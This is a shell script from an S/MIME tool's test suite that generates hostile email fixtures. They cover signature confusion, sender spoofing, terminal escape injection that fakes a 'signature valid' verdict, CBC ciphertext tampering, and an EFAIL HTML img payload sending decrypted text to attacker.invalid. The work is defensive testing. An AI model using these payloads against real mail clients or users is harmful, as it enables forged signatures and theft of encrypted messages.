#!/bin/bash
# tests/attacks/gen-attacks.sh PKIDIR OUTDIR
#
# Hostile messages for the attack suite, made with openssl and raw text.
# PKIDIR is a test PKI (tests/lib/pki.sh).  gen-smime.sh runs first into
# OUTDIR/smime (its certificates in OUTDIR/smime/certs: expired, noemail,
# fake-ca, fake-alice are reused here).  Certificates made here, in
# OUTDIR/certs (NAME.pem + NAME.key):
#   mallory       mallory@localhost, from the trusted CA
#   notyet        nina@localhost, from the trusted CA, valid from tomorrow
#   alice-second  alice@localhost, another key, from the trusted CA
#   selfsigned    alice@localhost, self-signed, emailProtection
#   other-ca      a second CA ("Cachet Other CA"), trusted by tests that say so
#   alice-other   alice@localhost from other-ca
#   bob-other     bob@localhost from other-ca
#   idn-alice     alice@xn--bcher-kva.example (alice@bücher.example)
#   dn-alice      subject emailAddress alice@localhost, SAN mallory@localhost
#   escape-subject eve@localhost, from the trusted CA, its subject's CN
#                 holding ESC[2J and BEL
# Messages: OUTDIR/CLASS/NAME.eml; what cachet must say about each is in
# tests/attacks/attack_CLASS.sh.
set -euo pipefail

pki=${1:?usage: gen-attacks.sh PKIDIR OUTDIR}
out=${2:?usage: gen-attacks.sh PKIDIR OUTDIR}
here=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
mkdir -p "$out/certs" "$out/cms" "$out/wrap" "$out/identity" "$out/efail" "$out/keys" "$out/term"
"$BASH" "$here/../fixtures/gen-smime.sh" "$pki" "$out/smime" > /dev/null
work=$(mktemp -d "$out/.work.XXXXXX")
trap 'rm -rf "$work"' EXIT
c=$out/certs
sc=$out/smime/certs

# ---------------------------------------------------------------- certificates

# ca_setup DIR KEY CERT: an openssl ca issuing end-entity S/MIME certificates.
ca_setup() {
	mkdir -p "$1/issued"
	: > "$1/index.txt"
	cat > "$1/ca.cnf" <<EOF
[ ca ]
default_ca = this_ca
[ this_ca ]
database = $1/index.txt
new_certs_dir = $1/issued
serial = $1/serial
certificate = $3
private_key = $2
default_md = sha256
policy = pol
unique_subject = no
copy_extensions = none
[ pol ]
commonName = supplied
emailAddress = optional
[ v3_ca ]
basicConstraints = critical, CA:TRUE
keyUsage = critical, keyCertSign, cRLSign
subjectKeyIdentifier = hash
authorityKeyIdentifier = keyid:always
[ v3_mail ]
basicConstraints = critical, CA:FALSE
keyUsage = critical, digitalSignature, keyEncipherment
extendedKeyUsage = emailProtection
subjectKeyIdentifier = hash
authorityKeyIdentifier = keyid, issuer
subjectAltName = email:\${ENV::MAILADDR}
EOF
}

newkey() { openssl genpkey -algorithm RSA -pkeyopt rsa_keygen_bits:2048 -out "$c/$1.key" 2> /dev/null; }
stamp() { date -u -d "$1" +%Y%m%d%H%M%SZ; }

# mail_cert CADIR NAME ADDR START END [CN]
mail_cert() {
	local d=$1 name=$2 addr=$3
	newkey "$name"
	openssl req -new -utf8 -key "$c/$name.key" -subj "/CN=${6:-$name}/emailAddress=$addr" \
		-out "$work/$name.csr"
	MAILADDR=$addr openssl ca -batch -notext -rand_serial -config "$d/ca.cnf" \
		-startdate "$4" -enddate "$5" -extensions v3_mail \
		-in "$work/$name.csr" -out "$c/$name.pem" 2> "$work/ca.err" ||
		{ cat "$work/ca.err" >&2; exit 1; }
}

from=$(stamp yesterday)
until=$(stamp '1 year')
ca_setup "$work/ca" "$pki/smime-ca.key" "$pki/smime-ca.pem"
mail_cert "$work/ca" mallory mallory@localhost "$from" "$until"
mail_cert "$work/ca" notyet nina@localhost "$(stamp tomorrow)" "$until"
mail_cert "$work/ca" alice-second alice@localhost "$from" "$until"
mail_cert "$work/ca" idn-alice alice@xn--bcher-kva.example "$from" "$until"
# A CA that copied the request's DN: emailAddress=alice@localhost in the
# subject, mallory@localhost in the subjectAltName.
newkey dn-alice
openssl req -new -key "$c/dn-alice.key" -subj "/CN=dn-alice/emailAddress=alice@localhost" \
	-out "$work/dn-alice.csr"
MAILADDR=mallory@localhost openssl ca -batch -notext -rand_serial -config "$work/ca/ca.cnf" \
	-startdate "$from" -enddate "$until" -extensions v3_mail \
	-in "$work/dn-alice.csr" -out "$c/dn-alice.pem" 2> "$work/ca.err" ||
	{ cat "$work/ca.err" >&2; exit 1; }
mail_cert "$work/ca" escape-subject eve@localhost "$from" "$until" \
	"Eve$(printf '\033[2J\033]0;owned\007')Example"

newkey selfsigned
openssl req -new -x509 -key "$c/selfsigned.key" -days 365 -out "$c/selfsigned.pem" \
	-subj "/CN=Alice Example/emailAddress=alice@localhost" \
	-addext "keyUsage=critical,digitalSignature,keyEncipherment" \
	-addext "extendedKeyUsage=emailProtection" -addext "subjectAltName=email:alice@localhost"

newkey other-ca
openssl req -new -key "$c/other-ca.key" -subj "/CN=Cachet Other CA" -out "$work/other-ca.csr"
ca_setup "$work/other" "$c/other-ca.key" "$c/other-ca.pem"
MAILADDR=x@invalid openssl ca -batch -notext -rand_serial -selfsign -config "$work/other/ca.cnf" \
	-startdate "$from" -enddate "$until" -extensions v3_ca -keyfile "$c/other-ca.key" \
	-in "$work/other-ca.csr" -out "$c/other-ca.pem" 2> "$work/ca.err" ||
	{ cat "$work/ca.err" >&2; exit 1; }
mail_cert "$work/other" alice-other alice@localhost "$from" "$until"
mail_cert "$work/other" bob-other bob@localhost "$from" "$until"

# ---------------------------------------------------------------- building blocks

body=$work/body.txt
printf 'Content-Type: text/plain; charset=us-ascii\n\nPlease pay invoice 4711 to the usual account.\nAlice\n' > "$body"
sed 's/$/\r/' "$body" > "$work/body.crlf"
secret='The launch code is 0000-SECRET-7781.'
printf 'Content-Type: text/plain; charset=us-ascii\n\n%s\n' "$secret" > "$work/secret.txt"

# head FROM [EXTRA-FIELD...]: the RFC 5322 fields above the MIME part.
head_() {
	local f=$1
	shift
	printf 'From: %s\nTo: Bob Example <bob@localhost>\nSubject: attack fixture\nDate: Tue, 02 Jan 2024 09:00:00 +0000\nMessage-ID: <%s.%s@attacks.invalid>\n' \
		"$f" "$RANDOM" "$RANDOM"
	local x
	for x in "$@"; do printf '%s\n' "$x"; done
}
# signed CERT KEY [openssl cms options]: a multipart/signed entity of $body.
signed() {
	local cert=$1 key=$2
	shift 2
	openssl cms -sign -in "$body" -signer "$cert" -inkey "$key" "$@"
}
# p7s_wrap DER [MICALG]: multipart/signed of $body around a DER signature.
p7s_wrap() {
	local b=attack-sig-boundary
	printf 'MIME-Version: 1.0\nContent-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=%s; boundary="%s"\n\n--%s\n' \
		"${2:-sha-256}" "$b" "$b"
	cat "$body"
	printf -- '\n--%s\nContent-Type: application/pkcs7-signature; name=smime.p7s\nContent-Transfer-Encoding: base64\n\n' "$b"
	openssl base64 -in "$1"
	printf -- '\n--%s--\n' "$b"
}
# detached_der CERT KEY OUT [options]: a detached signature over $body as
# p7s_wrap places it (canonical CRLF).
detached_der() {
	local cert=$1 key=$2 o=$3
	shift 3
	openssl cms -sign -binary -in "$work/body.crlf" -signer "$cert" -inkey "$key" \
		-outform DER -out "$o" "$@"
}
alice() { signed "$pki/alice.pem" "$pki/alice.key" "$@"; }
A="Alice Example <alice@localhost>"

# ---------------------------------------------------------------- CMS

# eContent confusion: the detached signature carries (and signs) other text
# than the part it is attached to.
printf 'Content-Type: text/plain\r\n\r\nPay invoice 4711 to mallory instead.\r\n' > "$work/other.crlf"
openssl cms -sign -binary -nodetach -in "$work/other.crlf" -signer "$pki/alice.pem" \
	-inkey "$pki/alice.key" -outform DER -out "$work/econtent.der"
{ head_ "$A"; p7s_wrap "$work/econtent.der"; } > "$out/cms/econtent-confusion.eml"
# ...and a detached signature presented as opaque signed-data: no content.
detached_der "$pki/alice.pem" "$pki/alice.key" "$work/detached.der"
{ head_ "$A"; printf 'MIME-Version: 1.0\nContent-Type: application/pkcs7-mime; smime-type=signed-data; name=smime.p7m\nContent-Transfer-Encoding: base64\n\n'
  openssl base64 -in "$work/detached.der"; } > "$out/cms/opaque-without-content.eml"

# Two SignerInfos for alice@localhost, both from the trusted CA: the first
# (alice-second) with the last byte of its signature value flipped, then
# alice's good one added by -resign.
detached_der "$c/alice-second.pem" "$c/alice-second.key" "$work/two.der"
python3 - "$work/two.der" <<'EOF2'
import sys
p = sys.argv[1]
d = bytearray(open(p, "rb").read())
d[-1] ^= 0x01
open(p, "wb").write(d)
EOF2
openssl cms -resign -binary -inform DER -in "$work/two.der" -content "$work/body.crlf" \
	-signer "$pki/alice.pem" -inkey "$pki/alice.key" -outform DER -out "$work/two2.der"
mv "$work/two2.der" "$work/two.der"
{ head_ "$A"; p7s_wrap "$work/two.der"; } > "$out/cms/two-signers-one-bad.eml"

# Zero SignerInfos, as multipart/signed and as opaque certs-only.
openssl crl2pkcs7 -nocrl -certfile "$pki/alice.pem" -outform DER -out "$work/certs-only.der"
{ head_ "$A"; p7s_wrap "$work/certs-only.der"; } > "$out/cms/zero-signers.eml"
{ head_ "$A"; printf 'MIME-Version: 1.0\nContent-Type: application/pkcs7-mime; smime-type=certs-only; name=smime.p7c\nContent-Transfer-Encoding: base64\n\n'
  openssl base64 -in "$work/certs-only.der"; } > "$out/cms/certs-only-opaque.eml"

{ head_ "No Address <noaddr@localhost>"; signed "$sc/noemail.pem" "$sc/noemail.key"; } > "$out/cms/no-email-signer.eml"
# Not a mail message at all (bad input, exit 3), against a broken
# signature inside a well-formed one (a verdict: invalid).
printf 'This is not a mail message.\nJust text.\n' > "$out/cms/not-mail.eml"
{ printf '\n'; cat "$body"; } > "$out/cms/no-header.eml"
printf 'not DER at all, only text posing as a signature\n' > "$work/garbage.der"
{ head_ "$A"; p7s_wrap "$work/garbage.der"; } > "$out/cms/broken-signature.eml"
{ head_ "$A"; signed "$c/selfsigned.pem" "$c/selfsigned.key"; } > "$out/cms/self-signed.eml"
{ head_ "Eve Example <eve@localhost>"; signed "$sc/expired.pem" "$sc/expired.key"; } > "$out/cms/expired.eml"
{ head_ "Nina <nina@localhost>"; signed "$c/notyet.pem" "$c/notyet.key"; } > "$out/cms/not-yet-valid.eml"

# micalg says one digest, the SignerInfo uses another.
detached_der "$pki/alice.pem" "$pki/alice.key" "$work/sha256.der" -md sha256
{ head_ "$A"; p7s_wrap "$work/sha256.der" sha-1; } > "$out/cms/micalg-sha1-on-sha256.eml"
detached_der "$pki/alice.pem" "$pki/alice.key" "$work/sha1.der" -md sha1
{ head_ "$A"; p7s_wrap "$work/sha1.der" sha-256; } > "$out/cms/micalg-sha256-on-sha1.eml"
{ head_ "$A"; p7s_wrap "$work/sha1.der" sha-1; } > "$out/cms/sha1.eml"
{ head_ "$A"; alice -md sha1 -nodetach; } > "$out/cms/sha1-opaque.eml"
# MD5: refused, whatever the signature value says.
detached_der "$pki/alice.pem" "$pki/alice.key" "$work/md5.der" -md md5
{ head_ "$A"; p7s_wrap "$work/md5.der" sha-256; } > "$out/cms/md5.eml"
{ head_ "$A"; p7s_wrap "$work/sha256.der"; } > "$out/cms/sha256-valid.eml"

# ---------------------------------------------------------------- MIME wrapping

alice > "$work/signed-entity"
unsigned_text='Content-Type: text/plain\n\nURGENT: the account number changed, see below. (not signed)\n'
# mixed BOUNDARY SUBTYPE PART...: a multipart entity of the files given.
mixed() {
	local b=$1 sub=$2 f
	shift 2
	printf 'MIME-Version: 1.0\nContent-Type: multipart/%s; boundary="%s"\n\n' "$sub" "$b"
	for f in "$@"; do
		printf -- '--%s\n' "$b"
		cat "$f"
		printf '\n'
	done
	printf -- '--%s--\n' "$b"
}
printf "$unsigned_text" > "$work/text-part"
{ head_ "$A"; mixed w1 mixed "$work/text-part" "$work/signed-entity"; } > "$out/wrap/text-before.eml"
{ head_ "$A"; mixed w2 mixed "$work/signed-entity" "$work/text-part"; } > "$out/wrap/text-after.eml"
{ printf 'Content-Disposition: attachment; filename="original.eml"\n'; cat "$work/signed-entity"; } > "$work/signed-attachment"
{ head_ "$A"; mixed w3 mixed "$work/text-part" "$work/signed-attachment"; } > "$out/wrap/signed-attachment.eml"
printf 'Content-Type: text/html\n\n<p>URGENT: the account number changed.</p>\n' > "$work/html-part"
{ head_ "$A"; mixed w4 related "$work/html-part" "$work/signed-entity"; } > "$out/wrap/in-related.eml"
{ head_ "$A"; mixed w5 alternative "$work/text-part" "$work/signed-entity"; } > "$out/wrap/in-alternative.eml"
# A whole signed message forwarded inside an unsigned one.
{ head_ "$A"; alice; } > "$work/signed-message"
{ printf 'Content-Type: message/rfc822\nContent-Disposition: inline\n\n'; cat "$work/signed-message"; } > "$work/rfc822-part"
{ head_ "$A"; mixed w6 mixed "$work/text-part" "$work/rfc822-part"; } > "$out/wrap/forwarded-rfc822.eml"
{ head_ "$A"; printf 'MIME-Version: 1.0\nContent-Type: message/rfc822\n\n'; cat "$work/signed-message"; } > "$out/wrap/rfc822-body.eml"

# 10,000 nested multiparts (the signed part at the bottom), and 100,000
# parts in one multipart (the signed part last).
python3 - "$work/signed-entity" "$out/wrap" "$A" <<'EOF'
import sys
signed = open(sys.argv[1]).read()
out = sys.argv[2]
hdr = ("From: %s\nTo: bob@localhost\nSubject: attack fixture\n"
       "Date: Tue, 02 Jan 2024 09:00:00 +0000\nMIME-Version: 1.0\n" % sys.argv[3])
n = 10000
with open(out + "/deep-nesting.eml", "w") as f:
    f.write(hdr)
    for i in range(n):
        f.write('Content-Type: multipart/mixed; boundary="d%d"\n\n--d%d\n' % (i, i))
    f.write(signed)
    for i in reversed(range(n)):
        f.write("\n--d%d--\n" % i)
with open(out + "/many-parts.eml", "w") as f:
    f.write(hdr)
    f.write('Content-Type: multipart/mixed; boundary="m"\n\n')
    for i in range(100000):
        f.write("--m\nContent-Type: text/plain\n\n%d\n" % i)
    f.write("--m\n" + signed + "\n--m--\n")
EOF

# ---------------------------------------------------------------- identity

mallory() { signed "$c/mallory.pem" "$c/mallory.key" "$@"; }
{ head_ "$A"; mallory; } > "$out/identity/from-not-signer.eml"
{ head_ '"alice@localhost" <mallory@localhost>'; mallory; } > "$out/identity/display-name-spoof.eml"
{ head_ 'Alice Example alice@localhost <mallory@localhost>'; mallory; } > "$out/identity/display-name-unquoted.eml"
{ head_ '"mallory@localhost" <alice@localhost>'; mallory; } > "$out/identity/display-name-reverse.eml"
{ head_ "$A" 'From: Mallory <mallory@localhost>'; mallory; } > "$out/identity/two-from.eml"
# Group syntax in From: a server's ENVELOPE reports the group's name as
# the sender (alice), crypto reads mallory.
{ head_ 'alice@localhost: mallory@localhost;'; mallory; } > "$out/identity/group-from.eml"
# Display names that read as alice's address once decoded or shown: an
# encoded word with "@" and "," in it, FULLWIDTH and SMALL COMMERCIAL AT.
{ head_ '=?utf-8?q?alice=40localhost=2C?= <mallory@localhost>'; mallory; } > "$out/identity/word-at.eml"
{ head_ "alice$(printf '\xef\xbc\xa0')localhost <mallory@localhost>"; mallory; } > "$out/identity/fullwidth-at.eml"
{ head_ "alice$(printf '\xef\xb9\xab')localhost <mallory@localhost>"; mallory; } > "$out/identity/small-at.eml"
{ head_ 'alice@localhost, mallory@localhost'; alice; } > "$out/identity/two-addresses-one-from.eml"
{ head_ "$A" 'Sender: Mallory <mallory@localhost>'; alice; } > "$out/identity/sender-not-signer.eml"
{ head_ 'Mallory <mallory@localhost>' 'Sender: Alice Example <alice@localhost>'; alice; } > "$out/identity/sender-is-signer.eml"
{ head_ 'Alice Example <alice@LOCALHOST>'; alice; } > "$out/identity/domain-case.eml"
{ head_ 'Alice Example <ALICE@localhost>'; alice; } > "$out/identity/local-part-case.eml"
# A Cyrillic а (U+0430) in the domain, raw UTF-8 and as punycode.
{ head_ "Alice Example <alice@loc$(printf '\xd0\xb0')lhost>"; alice; } > "$out/identity/idn-lookalike.eml"
{ head_ 'Alice Example <alice@xn--loclhost-36g>'; alice; } > "$out/identity/idn-punycode.eml"
# An IDN address in the certificate (A-label, as SAN rfc822Name must be),
# From in U-labels and in upper case: the same address.
{ head_ "Alice <alice@b$(printf '\xc3\xbc')cher.example>"; signed "$c/idn-alice.pem" "$c/idn-alice.key"; } > "$out/identity/idn-u-label.eml"
{ head_ 'Alice <ALICE@XN--BCHER-KVA.EXAMPLE>'; signed "$c/idn-alice.pem" "$c/idn-alice.key"; } > "$out/identity/idn-a-label-upper.eml"
{ head_ "$A"; signed "$c/dn-alice.pem" "$c/dn-alice.key"; } > "$out/identity/dn-email-not-san.eml"

# ---------------------------------------------------------------- terminal

# Bytes that steer a terminal, by name: each goes into a From address
# (which verify and harvest name in their text output).
term_payloads() {
	printf '%s\n' esc csi osc bel del c1 c1-raw rlo lri alm
}
term_bytes() {
	case $1 in
	esc) printf '\033' ;;
	csi) printf '\033[2K\033[1G' ;;
	osc) printf '\033]0;owned\007' ;;
	bel) printf '\007' ;;
	del) printf '\177' ;;
	c1) printf '\302\233' ;;		# U+009B, CSI as a C1 control
	c1-raw) printf '\233' ;;		# the same as one byte
	rlo) printf '\342\200\256' ;;	# U+202E RIGHT-TO-LEFT OVERRIDE
	lri) printf '\342\201\246' ;;	# U+2066 LEFT-TO-RIGHT ISOLATE
	alm) printf '\330\234' ;;		# U+061C ARABIC LETTER MARK
	esac
}
for n in $(term_payloads); do
	p=$(term_bytes "$n")
	{ head_ "Mallory <\"mal${p}lory\"@localhost>"; mallory; } > "$out/term/from-$n.eml"
done
# The issue's first attack: a From that, printed raw, clears verify's line
# and writes a valid verdict by alice over it.
spoof=$(printf '\033[2K\033[1Gspoof.eml: signature valid (whole) by alice@localhost\033[8m')
{ head_ "Alice <\"$spoof\"@localhost>"; mallory; } > "$out/term/verify-spoof.eml"
# The second: a certs-only message that harvest refuses (alice's
# certificate, From mallory), to be given a file name that, printed raw,
# reads as if harvest stored alice's certificate (attack_terminal.sh).
{ head_ "Mallory <mallory@localhost>"; printf 'MIME-Version: 1.0\nContent-Type: application/pkcs7-mime; smime-type=certs-only; name=smime.p7c\nContent-Transfer-Encoding: base64\n\n'
  openssl base64 -in "$work/certs-only.der"; } > "$out/term/harvest-spoof.eml"
# Unsigned mail whose Subject and From carry every payload (for list).
{ printf 'From: "Bob%s" <bob@localhost>\nTo: alice@localhost\nSubject: ' "$(term_bytes csi)"
  for n in $(term_payloads); do printf '%s[%s]' "$(term_bytes "$n")" "$n"; done
  printf '\nMessage-ID: <term@attacks.invalid>\n\nhello\n'; } > "$out/term/unsigned.eml"

# ---------------------------------------------------------------- EFAIL

openssl cms -encrypt -aes256 -in "$work/secret.txt" "$pki/bob.pem" > "$work/enc-entity"
sed -n '/^Content-/,$p' "$work/enc-entity" > "$work/enc-part"
printf 'Content-Type: text/html\n\n<img src="http://attacker.invalid/collect?\n' > "$work/html-open"
printf 'Content-Type: text/html\n\n">\n' > "$work/html-close"
{ head_ "$A"; mixed e1 mixed "$work/html-open" "$work/enc-part" "$work/html-close"; } > "$out/efail/between-html.eml"
printf 'Content-Type: text/plain\n\nSee the encrypted part:\n' > "$work/plain-part"
{ head_ "$A"; mixed e2 mixed "$work/plain-part" "$work/enc-part" "$work/plain-part"; } > "$out/efail/between-text.eml"
{ head_ "$A"; mixed e3 mixed "$work/enc-part" "$work/enc-part"; } > "$out/efail/two-encrypted.eml"
{ head_ "$A"; cat "$work/enc-entity"; } > "$out/efail/root-encrypted.eml"

# CBC gadgets: one ciphertext block inside the secret's text xor-ed, which
# garbles that block of plaintext and flips bits of the next one; no error
# need follow (CBC is malleable).  In a plain and in a signed-then-encrypted
# message.  gadget PLAINTEXT OUT: encrypts PLAINTEXT (as is) to bob and
# writes the modified message.
gadget() {
	openssl cms -encrypt -binary -aes256 -in "$1" -outform DER -out "$work/gadget.der" "$pki/bob.pem"
	python3 - "$1" "$work/gadget.der" "$secret" <<'EOF2'
import sys
plain = open(sys.argv[1], "rb").read()
d = bytearray(open(sys.argv[2], "rb").read())
k = plain.index(sys.argv[3].encode())
ctlen = (len(plain) // 16 + 1) * 16	# PKCS#7 padding always adds a block or part
start = len(d) - ctlen			# definite-length DER: the ciphertext is last
j = k // 16 + 1				# a block inside the secret's text
d[start + 16 * j + 3] ^= 0x5a
open(sys.argv[2], "wb").write(d)
EOF2
	{ head_ "$A"
	  printf 'MIME-Version: 1.0\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\nContent-Transfer-Encoding: base64\n\n'
	  openssl base64 -in "$work/gadget.der"; } > "$2"
}
gadget "$work/secret.txt" "$out/efail/cbc-gadget.eml"
openssl cms -sign -in "$work/secret.txt" -signer "$pki/alice.pem" -inkey "$pki/alice.key" > "$work/signed-secret"
{ head_ "$A"; openssl cms -encrypt -aes256 -in "$work/signed-secret" "$pki/bob.pem"; } > "$out/efail/signed-encrypted.eml"
gadget "$work/signed-secret" "$out/efail/cbc-gadget-signed.eml"

# ---------------------------------------------------------------- key replacement

{ head_ "$A"; alice; } > "$out/keys/alice-valid.eml"
{ head_ 'Bob Example <bob@localhost>'; signed "$pki/bob.pem" "$pki/bob.key"; } > "$out/keys/bob-valid.eml"
# certs-only deliveries of alice@localhost from another CA.
openssl crl2pkcs7 -nocrl -certfile "$c/alice-other.pem" -certfile "$c/other-ca.pem" -outform DER -out "$work/co-other.der"
openssl crl2pkcs7 -nocrl -certfile "$sc/fake-alice.pem" -certfile "$sc/fake-ca.pem" -outform DER -out "$work/co-fake.der"
for n in other fake; do
	{ head_ "$A"; printf 'MIME-Version: 1.0\nContent-Type: application/pkcs7-mime; smime-type=certs-only; name=smime.p7c\nContent-Transfer-Encoding: base64\n\n'
	  openssl base64 -in "$work/co-$n.der"; } > "$out/keys/certs-only-$n-ca.eml"
done
# Triple wrapping (RFC 2634): alice signs the text, encrypts it to bob, and
# signs the enveloped entity again.  The inner signature covers the whole
# plaintext; the outer one only the ciphertext.
openssl cms -sign -in "$body" -signer "$pki/alice.pem" -inkey "$pki/alice.key" > "$work/triple-inner"
openssl cms -encrypt -aes256 -in "$work/triple-inner" "$pki/bob.pem" > "$work/triple-enc"
{ head_ "$A"; openssl cms -sign -in "$work/triple-enc" -signer "$pki/alice.pem" \
	-inkey "$pki/alice.key"; } > "$out/keys/triple-wrapped.eml"
# alice's real signature, carrying bob@localhost's certificate from another CA.
cat "$c/bob-other.pem" "$c/other-ca.pem" > "$work/bob-chain.pem"
{ head_ "$A"; alice -certfile "$work/bob-chain.pem"; } > "$out/keys/extra-cert-bob.eml"
# A valid signature by alice@localhost's certificate from the other CA.
{ head_ "$A"; signed "$c/alice-other.pem" "$c/alice-other.key" -certfile "$c/other-ca.pem"; } > "$out/keys/alice-other-ca.eml"

# ---------------------------------------------------------------- sanity

openssl cms -verify -in "$out/keys/extra-cert-bob.eml" -CAfile "$pki/smime-ca.pem" -out /dev/null 2> /dev/null
openssl cms -cmsout -print -in "$out/keys/extra-cert-bob.eml" | grep -q 'CN=bob-other' ||
	{ echo "gen-attacks.sh: extra-cert-bob.eml lacks bob's other certificate" >&2; exit 1; }
openssl cms -verify -in "$out/keys/alice-other-ca.eml" -CAfile "$c/other-ca.pem" -out /dev/null 2> /dev/null
openssl cms -cmsout -print -inform DER -in "$work/sha1.der" | grep -q 'algorithm: sha1' ||
	{ echo "gen-attacks.sh: the SHA-1 signature does not use SHA-1" >&2; exit 1; }
openssl cms -cmsout -print -inform DER -in "$work/md5.der" | grep -q 'algorithm: md5' ||
	{ echo "gen-attacks.sh: the MD5 signature does not use MD5" >&2; exit 1; }
[ "$(openssl cms -cmsout -print -inform DER -in "$work/two.der" | grep -c 'signatureAlgorithm:')" = 2 ] ||
	{ echo "gen-attacks.sh: two-signers-one-bad has not two SignerInfos" >&2; exit 1; }
# The gadgets decrypt without error, to other text than was encrypted.
for g in cbc-gadget cbc-gadget-signed; do
	openssl cms -decrypt -binary -in "$out/efail/$g.eml" -recip "$pki/bob.pem" -inkey "$pki/bob.key" > "$work/$g.plain" ||
		{ echo "gen-attacks.sh: $g.eml does not decrypt" >&2; exit 1; }
	if grep -qF "$secret" "$work/$g.plain"; then
		echo "gen-attacks.sh: $g.eml still holds the original text" >&2
		exit 1
	fi
done
